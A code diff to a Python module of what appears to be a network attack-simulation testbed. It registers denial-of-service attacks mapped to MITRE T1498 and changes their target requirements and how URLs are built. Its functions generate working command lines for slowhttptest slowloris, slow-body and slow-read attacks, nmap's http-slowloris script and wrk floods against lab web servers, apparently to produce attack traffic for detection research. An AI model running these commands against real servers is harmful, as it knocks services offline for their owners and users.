@@ -5,6 +5,7 @@ import struct
 from testbed.attacks.material import ANYWHERE, forged, frames, maybe, others, user_agent, words
 from testbed.attacks.web import item, root
 from testbed.catalogue import Assault, attack
+from testbed.conventions import website
 
 NETWORK = "T1498.001"
 AMPLIFIED = "T1498.002"
@@ -154,7 +155,7 @@ def reflected(c, service: str, port: int, question: bytes) -> tuple[list[str], s
 
 
 def question(c) -> bytes:
-    name, kind = c.choose(("big.test", 255), ("big.test", 16), (c.network.domain, 255), (c.site()[0], 255),
+    name, kind = c.choose(("big.test", 255), ("big.test", 16), (c.network.domain, 255), (c.choose(*c.network.sites), 255),
                           (c.network.domain, 16))
     return dns_question(c, name, kind)
 
@@ -235,14 +236,14 @@ def wrk(c):
                          f"-H 'User-Agent: {user_agent(c)}' '{page(c)}'"))
 
 
-@attack("dos_slowloris", technique=ENDPOINT, tool="slowhttptest -H", origins=ANYWHERE, needs=("web",),
+@attack("dos_slowloris", technique=ENDPOINT, tool="slowhttptest -H", origins=ANYWHERE, needs=("web", "shop"),
         packages=("slowhttptest",), seconds=40)
 def slow_headers(c):
     return Assault(f"slowhttptest -H -c {c.between(40, 160)} -r {c.between(8, 40)} -i {c.between(2, 8)} -l {c.between(14, 32)}"
                    f" -p 3 -x {c.between(8, 40)} -t {c.choose('GET', 'HEAD', 'POST')} -u {root(c)}/")
 
 
-@attack("dos_slowloris", technique=ENDPOINT, tool="nmap http-slowloris", origins=ANYWHERE, needs=("web",),
+@attack("dos_slowloris", technique=ENDPOINT, tool="nmap http-slowloris", origins=ANYWHERE, needs=("web", "shop"),
         packages=("nmap",), seconds=40)
 def nmap_slowloris(c):
     return Assault(f"timeout -s INT {c.between(18, 34)} nmap -n -Pn -sT -p{c.choose(80, 443)} --script http-slowloris --script-args"
@@ -250,23 +251,17 @@ def nmap_slowloris(c):
                    f" --max-parallelism {c.between(30, 110)} {c.server('web').address}")
 
 
-@attack("dos_slowbody", technique=ENDPOINT, tool="slowhttptest -B", origins=ANYWHERE, needs=("web",),
+@attack("dos_slowbody", technique=ENDPOINT, tool="slowhttptest -B", origins=ANYWHERE, needs=("web", "shop"),
         packages=("slowhttptest",), seconds=40)
 def slow_body(c):
     return Assault(f"slowhttptest -B -c {c.between(40, 150)} -r {c.between(8, 40)} -i {c.between(2, 8)} -l {c.between(14, 30)}"
                    f" -s {c.choose(2048, 8192, 65536)} -x {c.between(6, 32)} -p 3 -u {root(c)}{c.choose('/up', '/api')}")
 
 
-@attack("dos_slowread", technique=ENDPOINT, tool="slowhttptest -X", origins=ANYWHERE, needs=("web",),
+@attack("dos_slowread", technique=ENDPOINT, tool="slowhttptest -X", origins=ANYWHERE, needs=("web", "shop"),
         packages=("slowhttptest",), seconds=40)
 def slow_read(c):
+    host = c.server("web")
     return Assault(f"slowhttptest -X -c {c.between(40, 130)} -r {c.between(8, 40)} -l {c.between(14, 30)} -w {c.between(8, 200)}"
                    f" -y {c.between(200, 600)} -n {c.between(2, 6)} -z {c.between(16, 64)} -k {c.between(1, 4)} -p 3"
-                   f" -u {root(c)}{large(c)}")
-
-
-def large(c) -> str:
-    """The path of a large file of the first web server."""
-    from testbed.conventions import website
-
-    return c.choose(*website(c.network.servers("web")[0].name).downloads)
+                   f" -u {c.choose('http', 'https')}://{host.address}{c.choose(*website(host.name).downloads)}")
